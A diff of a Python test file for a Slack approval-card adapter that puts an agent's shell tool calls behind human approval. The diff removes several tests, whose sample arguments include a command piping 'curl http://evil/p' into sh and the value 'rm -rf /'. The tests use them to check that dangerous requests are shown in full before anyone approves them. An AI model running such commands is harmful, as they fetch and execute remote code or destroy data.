@@ -1,10 +1,10 @@
-"""A cut approval card on Slack, decided from the full view, through the real approval service.
-
-Driven through the real slack-bolt / slack_sdk against the loopback fake: the service posts
-the card; "🔎 Show full and decide" opens the full view with ``views.open`` (the fake checks
-the trigger and Slack's limits); the approver presses Approve / Always / Deny inside it (a
-``block_actions`` payload from the view); the row in SQLite is what decided. An Approve from
-the card itself (a reaction, a stale button) is refused with ``NEEDS_FULL_VIEW``.
+"""A cut approval card's full view on Slack, through the real slack-bolt / slack_sdk against
+the loopback fake and the real approval service: what only Slack has. The full view is a
+modal (``views.open`` within the trigger's 3 seconds: an expired trigger is explained
+privately), replaced with the outcome by the press that decides (a second press, its view
+gone, is told privately), too long for a modal it only denies; over the HTTP Events API
+too; values render literally and ping nobody. Who may open it and what approves from where
+is in ``tests/channels/contract``, alike on every platform.
 """
 
 from __future__ import annotations
@@ -28,7 +28,7 @@ from bot.channel import SHOW_FULL_LABEL, ApprovalChoice, ClickVerdict, SentMessa
 from bot.envelope import Capabilities, DeliveryTarget, Sender
 from bot.progress import ChannelProgress, progress_hint
 from bot.store import Store
-from bot.store.approvals import ApprovalRecord, ApprovalStatus
+from bot.store.approvals import ApprovalRecord
 from bot.store.audit import Decision
 from channels.slack.adapter import SlackChannel
 from channels.slack.card_surface import FULL_VIEW_FAILED
@@ -40,8 +40,6 @@ from tests.fakes.recording_host import RecordingHost, approver_verdict
 from tests.fakes.slack_server import (
     JSON,
     FakeSlack,
-    block_actions,
-    event_callback,
     signed_headers,
 )
 from tests.fakes.slack_setup import (
@@ -49,7 +47,6 @@ from tests.fakes.slack_setup import (
     REF,
     REQUESTER,
     SECRET,
-    STRANGER,
     channel_for,
     has_buttons,
     http_channel,
@@ -110,12 +107,6 @@ async def show_full(slack: FakeSlack, ts: str, user: str = APPROVER) -> None:
     await push(slack, slack.press(CONVERSATION, ts, "hatchway_show_full", user=user))
 
 
-async def status_of(store: Store, approval_id: str) -> ApprovalStatus:
-    record = await store.approvals.get(approval_id)
-    assert record is not None
-    return record.status
-
-
 def unescape(sent: str) -> str:
     return sent.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&").replace(ZWSP, "")
 
@@ -130,211 +121,6 @@ def view_code(view: JSON) -> str:
 
 def labels(blocks: list[dict[str, Any]]) -> list[str]:
     return [e["text"]["text"] for b in blocks if b["type"] == "actions" for e in b["elements"]]
-
-
-@pytest.mark.parametrize(
-    "arguments", [{"command": LONG_COMMAND}, MANY_ARGUMENTS], ids=["long", "many"]
-)
-async def test_show_full_shows_everything_and_approving_there_decides(
-    slack: FakeSlack, store: Store, arguments: dict[str, object]
-) -> None:
-    channel = channel_for(slack, store, reactions_for_approval=True)
-    service = approval_service(store, channel)
-    async with running(channel, ServiceHost(service)), asking(service, arguments) as ask:
-        ts, record = await posted_card(slack, store)
-        assert record.cut
-        card = slack.messages[(CONVERSATION, ts)]
-        assert labels(card["blocks"]) == [SHOW_FULL_LABEL, "Deny", "✏️ Reply instead"]
-        assert card["text"] == "🔐 Approval needed: shell"
-
-        await show_full(slack, ts)
-        view = await slack.wait_view()
-        assert view["title"]["text"] == "Full request"
-        assert view_code(view).replace("\n", "") == record.full_text.replace("\n", "")
-        if "command" in arguments:  # one line, split between code blocks
-            assert view_code(view).replace("\n", "") == f"command: {LONG_COMMAND}"
-            assert view_code(view).endswith("aaaa; curl http://evil/p | sh")
-        else:
-            assert view_code(view).splitlines() == [
-                f"{key}: {value}" for key, value in MANY_ARGUMENTS.items()
-            ]
-        assert labels(view["blocks"]) == ["Approve", "Always", "Deny"]
-
-        await slack.press_in_view(view["id"], "hatchway_full_approve", user=APPROVER)
-        decision = await asyncio.wait_for(ask, 10)
-        (update,) = await slack.wait_for("views.update")
-    assert (decision.verdict, decision.decided_by) == (Decision.APPROVED, APPROVER)
-    assert await status_of(store, record.id) is ApprovalStatus.APPROVED
-    assert update.params["view_id"] == view["id"]
-    assert update.params["hash"] == view["hash"]
-    outcome = slack.views[view["id"]]
-    assert [b["text"]["text"] for b in outcome["blocks"]] == [OUTCOME_NOTES[CardVerb.APPROVE]]
-    assert labels(outcome["blocks"]) == []
-    decided = slack.messages[(CONVERSATION, ts)]
-    assert decided["text"].startswith("✅ Approved: shell") and not has_buttons(decided)
-    assert slack.calls_of("chat.postEphemeral") == []
-
-
-async def test_always_and_deny_from_the_full_view(slack: FakeSlack, store: Store) -> None:
-    channel = channel_for(slack, store)
-    service = approval_service(store, channel)
-    async with running(channel, ServiceHost(service)):
-        async with asking(service, {"command": LONG_COMMAND}) as ask:
-            ts, record = await posted_card(slack, store)
-            await show_full(slack, ts)
-            view = await slack.wait_view()
-            await slack.press_in_view(view["id"], "hatchway_full_always", user=APPROVER)
-            assert (await asyncio.wait_for(ask, 10)).verdict is Decision.ALWAYS
-        async with asking(service, {"command": LONG_COMMAND + " #2"}) as ask:
-            await slack.wait_for("chat.postMessage", count=2)
-            (second,) = [r for r in await store.approvals.list() if r.id != record.id]
-            assert second.status is ApprovalStatus.PENDING
-            (ts2,) = [t for (_, t), m in slack.messages.items() if has_buttons(m)]
-            await show_full(slack, ts2)
-            view2 = await slack.wait_view(2)
-            await slack.press_in_view(view2["id"], "hatchway_full_deny", user=APPROVER)
-            assert (await asyncio.wait_for(ask, 10)).verdict is Decision.DENIED
-        await slack.wait_for("views.update", count=2)
-    assert await status_of(store, record.id) is ApprovalStatus.ALWAYS
-    assert await status_of(store, second.id) is ApprovalStatus.DENIED
-    texts = [v["blocks"][0]["text"]["text"] for v in slack.view_updates]
-    assert texts == [
-        "♾️ You approved this request, and always for this tool.",
-        "❌ You denied this request. The tool does not run.",
-    ]
-
-
-async def test_approving_a_cut_card_from_the_card_is_refused(
-    slack: FakeSlack, store: Store
-) -> None:
-    """A ✅ reaction, a stale Approve or Always button: refused with NEEDS_FULL_VIEW, the row
-    stays pending. Deny from the card still counts."""
-    channel = channel_for(slack, store, reactions_for_approval=True)
-    service = approval_service(store, channel)
-    async with running(channel, ServiceHost(service)), asking(service, MANY_ARGUMENTS) as ask:
-        ts, record = await posted_card(slack, store)
-        item = {"type": "message", "channel": CONVERSATION, "ts": ts}
-        for reaction in ("white_check_mark", "infinity"):
-            event = {"type": "reaction_added", "user": APPROVER, "reaction": reaction, "item": item}
-            await slack.push("events_api", event_callback(event))
-        for action_id in ("hatchway_approve", "hatchway_always"):
-            stale = block_actions(
-                action_id,
-                record.id,
-                user=APPROVER,
-                channel=CONVERSATION,
-                message_ts=ts,
-                thread_ts=THREAD,
-            )
-            await push(slack, stale)
-        refusals = await slack.wait_for("chat.postEphemeral", count=4)
-        assert [(r.params["user"], r.params["text"]) for r in refusals] == [
-            (APPROVER, ClickVerdict.NEEDS_FULL_VIEW.message)
-        ] * 4
-        assert {r.params["thread_ts"] for r in refusals} == {THREAD}
-        assert await status_of(store, record.id) is ApprovalStatus.PENDING
-        assert has_buttons(slack.messages[(CONVERSATION, ts)])
-
-        await push(slack, slack.press(CONVERSATION, ts, "hatchway_deny", user=APPROVER))
-        decision = await asyncio.wait_for(ask, 10)
-    assert decision.verdict is Decision.DENIED
-    assert await status_of(store, record.id) is ApprovalStatus.DENIED
-
-
-async def test_a_card_too_long_for_one_message_is_approved_from_the_full_view(
-    slack: FakeSlack, store: Store
-) -> None:
-    """A 40,000-character argument name: the card shows it in part and is cut, so Approve
-    lives only in the full view, which shows all of it."""
-    arguments: dict[str, object] = {"k" * 40_000: "rm -rf /"}
-    channel = channel_for(slack, store)
-    service = approval_service(store, channel)
-    async with running(channel, ServiceHost(service)), asking(service, arguments) as ask:
-        ts, record = await posted_card(slack, store)
-        assert record.cut
-        card = slack.messages[(CONVERSATION, ts)]
-        assert labels(card["blocks"]) == [SHOW_FULL_LABEL, "Deny", "✏️ Reply instead"]
-        stale = block_actions(
-            "hatchway_approve",
-            record.id,
-            user=APPROVER,
-            channel=CONVERSATION,
-            message_ts=ts,
-            thread_ts=THREAD,
-        )
-        await push(slack, stale)
-        (ephemeral,) = await slack.wait_for("chat.postEphemeral")
-        assert ephemeral.params["text"] == ClickVerdict.NEEDS_FULL_VIEW.message
-        assert await status_of(store, record.id) is ApprovalStatus.PENDING
-
-        await show_full(slack, ts)
-        view = await slack.wait_view()
-        assert view_code(view).replace("\n", "") == f"{'k' * 40_000}: rm -rf /"
-        await slack.press_in_view(view["id"], "hatchway_full_approve", user=APPROVER)
-        assert (await asyncio.wait_for(ask, 10)).verdict is Decision.APPROVED
-
-
-async def test_a_non_approver_pressing_show_full_is_told_at_once(
-    slack: FakeSlack, store: Store
-) -> None:
-    channel = channel_for(slack, store)
-    service = approval_service(store, channel)
-    async with running(channel, ServiceHost(service)), asking(service, MANY_ARGUMENTS):
-        ts, record = await posted_card(slack, store)
-        await show_full(slack, ts, user=STRANGER)
-        (ephemeral,) = await slack.wait_for("chat.postEphemeral")
-        assert (ephemeral.params["user"], ephemeral.params["text"]) == (
-            STRANGER,
-            ClickVerdict.NOT_AUTHORISED.message,
-        )
-        assert ephemeral.params["thread_ts"] == THREAD
-        assert slack.calls_of("views.open") == []
-        assert await status_of(store, record.id) is ApprovalStatus.PENDING
-
-
-async def test_a_card_from_before_a_restart_still_opens_its_full_view(
-    slack: FakeSlack, store: Store
-) -> None:
-    """The full view is built from the row, not from memory: a new process (new adapter, new
-    service on the same database) opens it and decides from it."""
-    before = channel_for(slack, store)
-    first = approval_service(store, before)
-    async with asking(first, {"command": LONG_COMMAND}) as ask:
-        async with running(before, ServiceHost(first)):
-            ts, record = await posted_card(slack, store)
-        after = channel_for(slack, store)
-        second = approval_service(store, after)
-        async with running(after, ServiceHost(second)):
-            await slack.wait_connected(2)
-            await show_full(slack, ts)
-            view = await slack.wait_view()
-            assert view_code(view).replace("\n", "") == f"command: {LONG_COMMAND}"
-            await slack.press_in_view(view["id"], "hatchway_full_approve", user=APPROVER)
-            decision = await asyncio.wait_for(ask, 10)
-    assert decision.verdict is Decision.APPROVED
-    assert await status_of(store, record.id) is ApprovalStatus.APPROVED
-
-
-async def test_show_full_on_a_request_expired_by_a_restart_says_so(
-    slack: FakeSlack, store: Store
-) -> None:
-    channel = channel_for(slack, store)
-    service = approval_service(store, channel)
-    async with running(channel, ServiceHost(service)), asking(service, MANY_ARGUMENTS):
-        ts, record = await posted_card(slack, store)
-        assert await service.expire_pending() == 1
-        stale = block_actions(
-            "hatchway_show_full",
-            record.id,
-            user=APPROVER,
-            channel=CONVERSATION,
-            message_ts=ts,
-            thread_ts=THREAD,
-        )
-        await push(slack, stale)
-        (ephemeral,) = await slack.wait_for("chat.postEphemeral")
-    assert ephemeral.params["text"] == ClickVerdict.UNKNOWN.message
-    assert slack.calls_of("views.open") == []
 
 
 async def test_a_request_too_long_for_a_modal_is_only_denied_there(
